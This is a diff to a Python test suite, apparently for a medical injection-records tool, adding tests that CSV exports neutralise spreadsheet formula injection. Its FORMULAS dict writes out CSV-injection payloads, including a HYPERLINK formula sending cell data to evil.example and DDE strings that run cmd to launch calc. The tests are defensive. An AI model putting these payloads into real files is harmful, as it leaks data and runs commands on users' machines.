@@ -11,9 +11,12 @@ import xml.etree.ElementTree as ET
 from decimal import Decimal
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from fhir.resources.R4B.bundle import Bundle
 from fhir.resources.R4B.medicationadministration import MedicationAdministration
 
+from mesoinject import exports
 from mesoinject import program as programs
 from mesoinject.exports import NothingToExport
 from mesoinject.records import RecordStore
@@ -154,6 +157,44 @@ def test_nothing_to_export_says_what_to_do(store):
     with pytest.raises(NothingToExport, match="per session: pass --session N"):
         store.export("html")
 
+
+
+FORMULAS = {"operator": '=HYPERLINK("http://evil.example/?"&A1,"open")', "drug": "+cmd|' /C calc'!A0",
+            "drug_lot": "@SUM(1+1)*cmd|' /C calc'!A0", "patient_ref": "-2+3"}
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text_and_numbers_stay_numbers(store):
+    prog = programs.parse({**_POINT_TOML, "drug": FORMULAS["drug"]})
+    sid = store.begin_session(IDENT, prog, patient_ref=FORMULAS["patient_ref"], operator=FORMULAS["operator"],
+                              device_session=7, drug_lot=FORMULAS["drug_lot"])
+    store.add_delivery(sid, "SIM-0042", delivery(1, 0, 29990))
+    row = next(csv.DictReader(io.StringIO(store.export("csv", sid))))
+    assert {k: row[k] for k in FORMULAS} == {k: "'" + v for k, v in FORMULAS.items()}
+    assert (row["delivered_nl"], row["programmed_nl"], row["depth_um"]) == ("29990", "30000", "3000")
+    assert json.loads(store.export("json", sid))[0]["operator"] == FORMULAS["operator"]  # not a spreadsheet
+
+
+_POINT_TOML = {"name": "p", "technique": "point-by-point", "drug": "d", "syringe": "BD 1 mL",
+               "needle": {"gauge": 30, "length": "4 mm"}, "volume_per_point": "30 uL", "depth": "3 mm", "points": 3}
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@settings(max_examples=200, deadline=None)
+@given(texts=st.lists(st.text(alphabet=st.sampled_from("=+-@\t\r\n\"',;a1 ") | st.characters(), max_size=12),
+                      min_size=7, max_size=7),
+       numbers=st.lists(st.integers(-2**40, 2**40), min_size=9, max_size=9))
+def test_no_csv_cell_starts_a_formula_and_every_number_reads_back(texts, numbers):
+    text_keys = ("device_serial", "kind", "received_at", "drug", "patient_ref", "operator", "drug_lot")
+    number_keys = [k for k in exports.EXPORT_COLUMNS if k not in text_keys]
+    row = {**dict(zip(text_keys, texts)), **dict(zip(number_keys, numbers))}
+    fake = types.SimpleNamespace(session=lambda sid: {"id": 1}, sessions=lambda: [{"id": 1}],
+                                 deliveries=lambda sid: [row], where="test")
+    back = next(csv.DictReader(io.StringIO(exports.export(fake, "csv", 1), newline="")))
+    for key in number_keys:
+        assert back[key] == str(row[key])  # -5 stays -5: only text is neutralised
+    for key in text_keys:
+        assert not back[key].startswith(DANGEROUS)
+        assert back[key] == ("'" + row[key] if row[key].startswith(DANGEROUS) else row[key])
 
 # --- the records CLI ---
 
